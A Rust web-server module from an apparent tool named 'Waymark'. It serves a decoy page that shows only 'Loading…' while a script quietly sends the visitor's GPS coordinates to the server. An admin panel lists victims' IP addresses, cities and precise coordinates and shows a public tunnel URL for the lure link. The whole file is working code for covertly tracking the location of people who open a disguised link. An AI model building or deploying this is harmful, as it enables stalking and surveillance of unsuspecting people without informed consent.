//! Read-only views over the collected reports.

use std::collections::HashSet;

use axum::extract::State;
use axum::response::Html;
use axum::Json;
use serde_json::json;

use waymark_core::LocationReport;

use super::AppState;

/// Rows shown in the admin panel's recent-report table.
const RECENT_ROWS: usize = 10;

/// Placeholder shown while no tunnel provider has reported a URL.
pub(super) const TUNNEL_PENDING: &str = "Tunnel not yet configured";

/// `GET /` - the capture page.
pub(super) async fn capture_page() -> Html<&'static str> {
    Html(CAPTURE_PAGE)
}

/// `GET /admin` - operator summary panel.
///
/// Rendered from a single snapshot so a concurrent append cannot tear the
/// count/table pair apart.
pub(super) async fn admin_panel(State(state): State<AppState>) -> Html<String> {
    let snapshot = state.store.snapshot().await;
    let url = state.tunnel.current().await;
    Html(render_admin(&snapshot, url.as_deref()))
}

/// `GET /admin/data` - the full ordered snapshot as JSON.
pub(super) async fn data_dump(State(state): State<AppState>) -> Json<Vec<LocationReport>> {
    Json(state.store.snapshot().await)
}

/// `POST /admin/clear` - drop every stored report.
pub(super) async fn clear_data(State(state): State<AppState>) -> Json<serde_json::Value> {
    state.store.clear().await;
    Json(json!({"ok": true}))
}

fn render_admin(reports: &[LocationReport], url: Option<&str>) -> String {
    let total = reports.len();
    let last_seen = reports.last().map_or("None", |r| r.timestamp.as_str());
    let countries = reports
        .iter()
        .map(|r| r.country.as_str())
        .filter(|c| !c.is_empty())
        .collect::<HashSet<_>>()
        .len();

    let mut rows = String::new();
    for report in reports.iter().rev().take(RECENT_ROWS) {
        rows.push_str(&format!(
            "<tr><td>{}</td><td>{}</td><td>{}</td><td>{:.6}</td><td>{:.6}</td><td>{:.2}m</td><td>{}</td></tr>\n",
            escape(&report.ip),
            escape(&report.country),
            escape(&report.city),
            report.latitude,
            report.longitude,
            report.accuracy,
            escape(&report.timestamp),
        ));
    }

    format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Waymark admin</title>
</head>
<body>
<h1>Waymark</h1>
<section>
<h2>Public tunnel URL</h2>
<p>{url}</p>
</section>
<section>
<h2>Summary</h2>
<p>Total reports: {total}</p>
<p>Last report: {last_seen}</p>
<p>Distinct countries: {countries}</p>
</section>
<table>
<thead><tr><th>IP</th><th>Country</th><th>City</th><th>Latitude</th><th>Longitude</th><th>Accuracy</th><th>Time</th></tr></thead>
<tbody>
{rows}</tbody>
</table>
<form method="post" action="/admin/clear"><button>Clear data</button></form>
</body>
</html>
"#,
        url = url.map_or_else(|| TUNNEL_PENDING.to_string(), escape),
        last_seen = escape(last_seen),
    )
}

/// Minimal HTML escaping for values that originate outside this process.
fn escape(value: &str) -> String {
    value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// Capture page served at `/`.
///
/// Posts one geolocation fix to `/location` and stays quiet about the
/// outcome; the visual shell is intentionally spare.
const CAPTURE_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Waymark</title>
</head>
<body>
<p>Loading&hellip;</p>
<script>
if (navigator.geolocation) {
  navigator.geolocation.getCurrentPosition(function (position) {
    fetch('/location', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({
        latitude: position.coords.latitude,
        longitude: position.coords.longitude,
        accuracy: position.coords.accuracy,
        timestamp: new Date().toISOString()
      })
    }).catch(function () {});
  }, function () {});
}
</script>
</body>
</html>
"#;
